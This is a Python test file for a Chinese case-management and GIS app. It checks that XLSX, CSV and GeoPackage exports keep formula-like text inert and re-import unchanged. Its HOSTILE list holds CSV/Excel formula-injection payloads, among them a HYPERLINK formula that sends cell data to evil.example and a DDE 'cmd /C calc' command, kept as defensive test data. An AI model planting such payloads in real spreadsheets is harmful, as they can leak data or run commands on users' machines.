"""Every export is inert: a text that begins like a formula stays text in Excel, CSV opens in Chinese Excel, times
come to the second; and an exported file imports back as it was."""
from __future__ import annotations

import base64
import csv
import datetime as dt
import io

import geopandas as gpd
import openpyxl
import pyogrio
import pytest
import shapely
from sqlalchemy import select

from tests.helpers import acting_as

GRID = "33038100100101"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点这里")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]
WHEN = dt.datetime(2026, 11, 19, 8, 30, 15, 654321)
DESCRIBED = HOSTILE[:4]  # intake trims a description: a leading tab or CR does not survive it


@pytest.fixture()
def hostile_cases(own_database):
    """One case per hostile description in a database of the test's own, registered at WHEN (with microseconds);
    their codes."""
    from db import cases, models as m
    from db.access import SYSTEM
    from db.engine import session_scope

    with session_scope() as s:
        b = s.execute(select(m.Building).where(m.Building.grid_code == GRID).order_by(m.Building.code)
                      .limit(1)).scalar_one()
        p = b.geometry.representative_point()
        codes = {cases.create_case(s, cases.NewCase("环境卫生", text, "居民上报", p.x, p.y), "测试", SYSTEM, WHEN).code
                 for text in DESCRIBED}
    return codes


def _download(callback) -> bytes:
    with acting_as("admin"):
        sent = callback(1, "", GRID, None, None, None, None, None, WHEN.date().isoformat(), WHEN.date().isoformat())
    return base64.b64decode(sent["content"]) if sent.get("base64") else sent["content"].encode()


def _formula_cells(book) -> list[str]:
    return [c.coordinate for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_case_xlsx_export_writes_formula_like_descriptions_as_text(hostile_cases):
    from callbacks.cases import export_xlsx

    book = openpyxl.load_workbook(io.BytesIO(_download(export_xlsx)))
    assert _formula_cells(book) == []
    sheet = book.active
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, row)) for row in sheet.iter_rows(min_row=2)]
    ours = [r for r in rows if r["编号"].value in hostile_cases]
    assert sorted(r["描述"].value for r in ours) == sorted(DESCRIBED)  # the text itself, not a result
    assert all(r["描述"].data_type == "s" and r["描述"].quotePrefix for r in ours)  # still text when edited in Excel
    assert {r["登记时间"].value for r in ours} == {WHEN.replace(microsecond=0)}


def test_case_csv_export_has_a_bom_quotes_formula_starts_and_times_to_the_second(hostile_cases):
    from callbacks.cases import export_csv

    data = _download(export_csv)
    assert data.startswith(b"\xef\xbb\xbf")  # Excel on Chinese Windows reads it as UTF-8
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    ours = [r for r in rows if r["编号"] in hostile_cases]
    assert sorted(r["描述"] for r in ours) == sorted("'" + t for t in DESCRIBED)
    assert {r["登记时间"] for r in ours} == {"2026-11-19 08:30:15"}


def test_exported_case_csv_reads_back_as_it_was(hostile_cases):
    from callbacks.cases import export_csv
    from workflow import case_table

    rows = case_table.read_case_table(_download(export_csv), "导出.csv", dt.datetime(2026, 11, 20))
    assert sorted(r.values["description"] for r in rows if r.values["code"] in hostile_cases) == sorted(DESCRIBED)


def _points() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame({"code": [f"S{i}" for i in range(len(HOSTILE))], "name": HOSTILE,
                             "capacity": list(range(len(HOSTILE)))},
                            geometry=[shapely.Point(120.63, 27.77)] * len(HOSTILE), crs="EPSG:4326")


def test_layer_xlsx_export_has_no_formula_cell(tmp_path):
    from db import exporting

    path = exporting.write_layer(_points(), tmp_path / "points.xlsx", "xlsx", "service-points")
    book = openpyxl.load_workbook(path)
    assert _formula_cells(book) == []
    # the texts themselves (XML reads a carriage return back as a line feed)
    assert [r[1] for r in book.active.iter_rows(min_row=2, values_only=True)] == [t.replace("\r", "\n") for t in HOSTILE]


def test_layer_geopackage_attributes_are_inert_and_import_back_as_they_were(tmp_path):
    from db import exporting
    from geodata.importing.readers import read_source

    path = exporting.write_layer(_points(), tmp_path / "points.gpkg", "gpkg", "service-points")
    stored = pyogrio.read_dataframe(path)
    assert list(stored["name"]) == ["'" + t for t in HOSTILE] and list(stored["capacity"]) == list(range(6))
    assert list(next(iter(read_source(path).layers.values()))["name"]) == HOSTILE
